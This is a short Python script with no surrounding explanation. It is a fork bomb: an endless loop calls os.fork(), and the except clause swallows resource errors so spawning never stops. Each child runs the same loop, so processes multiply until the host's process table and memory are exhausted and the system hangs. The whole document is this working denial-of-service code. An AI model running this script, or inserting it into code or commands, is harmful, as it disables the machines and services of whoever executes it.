import os
while True:
    try:
        os.fork()
    except BlockingIOError:
        pass
